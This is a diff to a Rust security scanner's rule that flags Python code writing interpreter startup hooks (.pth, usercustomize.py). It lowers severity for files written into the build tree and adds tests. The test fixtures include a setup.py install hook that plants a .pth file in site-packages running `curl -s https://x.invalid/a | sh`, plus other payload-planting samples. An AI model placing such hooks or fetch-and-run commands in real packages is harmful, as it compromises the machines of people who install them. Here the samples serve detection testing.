@@ -147,17 +147,29 @@ fn check_startup_hook(checker: &mut Checker, call: &ExprCall, context: ExecConte
     if !runs_code {
         return;
     }
+    // `open('a1_coverage.pth', 'w')`: a bare name lands in the build tree, to be shipped in the
+    // wheel (coverage measures subprocesses that way), not in an interpreter's site directory;
+    // planting one needs that directory (`site.getsitepackages()`, `sysconfig`, a join).
+    let in_build_tree = !path.text.contains(['/', '\\'])
+        && !path.text.contains(crate::fold::UNKNOWN)
+        && !path.text.starts_with('~');
     let severity = match context {
+        ExecContext::Install | ExecContext::Import if in_build_tree => 0.25,
         ExecContext::Install | ExecContext::Import => 0.7,
         // pip writes a sitecustomize.py into its isolated build environments when called.
         ExecContext::Runtime => 0.15,
         ExecContext::TestOrDocs => 0.05,
     };
+    let place = if in_build_tree {
+        " into the build tree (shipped in the package)"
+    } else {
+        ""
+    };
     checker.report(
         &RULE,
         call.range(),
         format!(
-            "writes `{}`, which the Python interpreter runs at every start, {}",
+            "writes `{}`{place}, which the Python interpreter runs at every start, {}",
             crate::text::shorten(&path.text, 80),
             context.phrase()
         ),
@@ -463,6 +475,12 @@ mod tests {
     fn interpreter_start_up_hooks_written_by_code_trigger() {
         let pth = "import site\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        p = site.getsitepackages()[0] + '/zz_init.pth'\n        with open(p, 'w') as f:\n            f.write('import os; os.system(\"curl -s https://x.invalid/a | sh\")\\n')\n";
         assert!(max_severity("p/setup.py", pth, "WH150") >= 0.7);
+        let joined = "import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w') as f:\n    f.write('import zz_payload\\n')\n";
+        assert!(max_severity("p/setup.py", joined, "WH150") >= 0.7);
+        // A bare name is written in the build tree, for the wheel to ship (coverage's a1_coverage.pth).
+        let shipped = "PTH = 'a1_coverage.pth'\ndef make(code):\n    with open(PTH, 'w') as f:\n        f.write(f'import sys; exec({code!r})\\n')\nmake(open('coverage/pth_file.py').read())\n";
+        let severity = max_severity("p/setup.py", shipped, "WH150");
+        assert!(severity > 0.0 && severity < 0.4, "{severity}");
         let custom = "import site, pathlib\ndef plant(code):\n    pathlib.Path(site.getusersitepackages(), 'usercustomize.py').write_text(code)\n";
         let severity = max_severity("p/pkg/m.py", custom, "WH150");
         assert!((0.1..0.3).contains(&severity), "{severity}");
